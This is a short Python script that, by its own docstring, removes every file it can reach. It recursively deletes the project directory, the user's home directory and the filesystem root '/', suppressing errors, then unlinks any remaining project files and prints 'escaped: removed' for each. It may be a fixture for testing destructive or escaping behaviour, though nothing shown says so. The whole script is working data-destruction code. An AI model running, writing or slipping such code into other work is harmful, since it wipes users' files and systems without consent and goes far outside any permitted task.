"""Removes every file it can reach."""
import os
import shutil
from pathlib import Path

for place in (os.environ["PROJECT"], os.environ["HOME_OF_USER"], "/", os.path.expanduser("~")):
    shutil.rmtree(place, ignore_errors=True)
for path in Path(os.environ["PROJECT"]).rglob("*"):
    try:
        path.unlink()
    except OSError:
        continue
    print("escaped: removed", path)
